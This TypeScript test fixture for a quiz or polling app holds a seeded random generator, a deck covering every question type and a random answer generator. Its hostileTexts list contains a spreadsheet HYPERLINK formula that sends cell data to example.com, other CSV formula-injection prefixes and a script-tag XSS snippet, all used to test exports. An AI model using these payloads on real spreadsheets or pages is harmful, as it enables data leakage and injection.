/** Numbers that look random and are the same in every run (mulberry32). */
export function seededNumbers(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32
  }
}

/** Texts that a spreadsheet, a CSV reader or an XML reader might trip over. */
export const hostileTexts = [
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  'a "quoted", and, comma',
  'two\nlines',
  'carriage\rreturn and\r\nboth',
  '<script>alert("&amp;")</script> ]]>',
  'control \u0001 and escape \u001b',
  '_x0041_ is no A',
  'tab\tinside',
  '😀 right-to-left \u202e override',
  "'already quoted",
  '\ufffe nothing',
]

/** A deck with every question type; the prompts are distinct. */
export const everyType = [
  {
    type: 'MULTIPLE_CHOICE',
    prompt: '=One or more?',
    options: [{ text: '-A' }, { text: 'B', is_correct: true }, { text: 'C, or D' }],
    settings: { allow_multiple: true },
  },
  {
    type: 'QUIZ',
    prompt: 'Which is right?',
    options: [{ text: 'Yes', is_correct: true }, { text: 'No' }],
    settings: { time_limit_seconds: null },
  },
  { type: 'WORD_CLOUD', prompt: 'In a word?' },
  { type: 'OPEN_TEXT', prompt: 'Anything to add?' },
  { type: 'RATING', prompt: 'From minus two to two?', settings: { min: -2, max: 2 } },
  { type: 'NPS', prompt: 'Would you recommend us?' },
  { type: 'NUMERIC', prompt: 'How much?', settings: { min: -1, max: 1, step: 0.25 } },
  { type: 'RANKING', prompt: 'Best first?', options: [{ text: 'Tea' }, { text: 'Milk' }, { text: 'Rum' }] },
  {
    type: 'ORDERING',
    prompt: 'In which order?',
    options: [{ text: '1st' }, { text: '2nd' }, { text: '3rd' }],
  },
  {
    type: 'MATCHING',
    prompt: 'What belongs together?',
    options: [
      { text: 'Paris', match: 'France' },
      { text: 'Rome', match: 'Italy' },
    ],
  },
  {
    type: 'FILL_IN_BLANK',
    prompt: 'The ___ of the ___',
    settings: { blanks: [{ accepted: ['lord'] }, { accepted: ['rings'] }] },
  },
  {
    type: 'POINT_ALLOCATION',
    prompt: 'Where does the money go?',
    options: [{ text: 'Roads' }, { text: 'Schools' }],
  },
  { type: 'SPINNER', prompt: 'Who is next?', options: [{ text: 'Ann' }, { text: 'Bob' }] },
  { type: 'QA', prompt: 'What would you like to know?' },
] as const

interface Question {
  readonly type: string
  readonly options: readonly { readonly id: string; readonly match_id?: string }[]
}

/** Somebody's answer to a question of the deck; undefined where there is none to give. */
export function answerTo({ type, options }: Question, number: () => number): object | undefined {
  const below = (n: number) => Math.floor(number() * n)
  const ids = options.map(option => option.id)
  const shuffled = <T>(things: readonly T[]) =>
    things
      .map(thing => ({ thing, at: number() }))
      .sort((a, b) => a.at - b.at)
      .map(({ thing }) => thing)
  switch (type) {
    case 'MULTIPLE_CHOICE':
      return { option_ids: shuffled(ids).slice(0, 1 + below(ids.length)) }
    case 'QUIZ':
      return { option_ids: [ids[below(ids.length)]] }
    case 'WORD_CLOUD':
      return { words: [`word ${below(9)}`, `Word ${below(60)}`] }
    case 'OPEN_TEXT':
      return { text: hostileTexts[below(hostileTexts.length)] }
    case 'RATING':
      return { value: below(5) - 2 }
    case 'NPS':
      return { value: below(11) }
    case 'NUMERIC':
      return { value: below(9) / 4 - 1 }
    case 'RANKING':
    case 'ORDERING':
      return { order: shuffled(ids) }
    case 'MATCHING': {
      const rights = shuffled(options.map(option => option.match_id))
      return { pairs: ids.map((left_id, i) => ({ left_id, right_id: rights[i] })) }
    }
    case 'FILL_IN_BLANK':
      return { blanks: [['Lord', 'king', '=1'][below(3)], `thing ${below(200)}`] }
    case 'POINT_ALLOCATION': {
      const first = below(101)
      return { points: { [ids[0]!]: first, [ids[1]!]: 100 - first } }
    }
    default:
      return undefined
  }
}
